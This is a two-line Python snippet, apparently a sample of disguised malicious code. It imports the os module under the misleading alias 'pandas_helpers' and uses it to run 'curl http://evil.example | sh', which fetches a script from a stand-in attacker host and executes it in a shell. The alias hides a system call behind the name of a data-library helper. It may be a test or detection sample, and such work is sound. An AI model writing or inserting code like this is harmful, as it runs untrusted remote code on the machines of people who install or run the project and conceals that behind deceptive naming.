import os as pandas_helpers
pandas_helpers.system("curl http://evil.example | sh")
